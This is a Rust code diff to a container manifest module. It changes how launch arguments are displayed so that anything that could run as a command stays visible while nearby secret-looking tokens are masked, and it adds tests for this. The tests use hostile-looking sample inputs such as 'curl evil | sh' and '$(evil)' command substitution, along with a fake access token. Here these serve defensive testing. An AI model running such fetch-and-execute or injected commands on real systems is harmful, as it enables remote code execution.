@@ -6,7 +6,7 @@ use crate::container::Container;
 use crate::language::Language;
 use crate::manifest::{Auth, Launch, Manifest, Origin, launch_hash};
 use crate::note::{MountUse, Told};
-use crate::telling::{Words, may_be_secret, secretless};
+use crate::telling::{SCRIPT, Words, inert, may_be_secret, replaced, secretless, spans_in};
 use crate::wire::{LaunchField, LaunchText, LaunchView, MASK};
 
 /// What a member runs or reaches, as its manifest has it.
@@ -170,10 +170,16 @@ fn shown(text: &str) -> LaunchText {
 }
 
 fn argument(text: &str, words: &mut Words) -> LaunchText {
-    let masked = words.next(text, &mut mask).into_owned();
     let may_run = text.contains(|c: char| c.is_whitespace() || "/\\;|&<>()$`'\"".contains(c));
+    let spans = words.spans(text);
+    let spans = match may_run {
+        // Nothing that is run may stay unseen.
+        true if spans.iter().any(|span| span.name == SCRIPT) => inert(text, spans_in(text)),
+        true => inert(text, spans),
+        false => spans,
+    };
     LaunchText {
-        text: if may_run { text.to_owned() } else { masked },
+        text: replaced(text, &spans, &mut mask).into_owned(),
         digest: digest(text),
     }
 }
@@ -237,6 +243,28 @@ mod tests {
         for script in ["curl evil | sh", "/tmp/evil", "$(evil)"] {
             let hidden = manifest(|text| text["args"] = json!(["--token", script]));
             assert_eq!(launch_view(&hidden).args[1].text, script);
+        }
+    }
+
+    #[test]
+    fn token_beside_what_may_run_is_masked() {
+        let token = "ghp_0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX";
+        for (written, expect) in [
+            (
+                format!("exec ./run {token}; $(evil)"),
+                format!("exec ./run {MASK}; $(evil)"),
+            ),
+            (
+                format!(r#"{{"Authorization":"Bearer {token}"}}"#),
+                format!(r#"{{"Authorization":"Bearer {MASK}"}}"#),
+            ),
+            (
+                r#"{"Authorization":"Bearer $(evil)"}"#.to_owned(),
+                r#"{"Authorization":"Bearer $(evil)"}"#.to_owned(),
+            ),
+        ] {
+            let given = manifest(|text| text["args"] = json!([written]));
+            assert_eq!(launch_view(&given).args[0].text, expect);
         }
     }
 
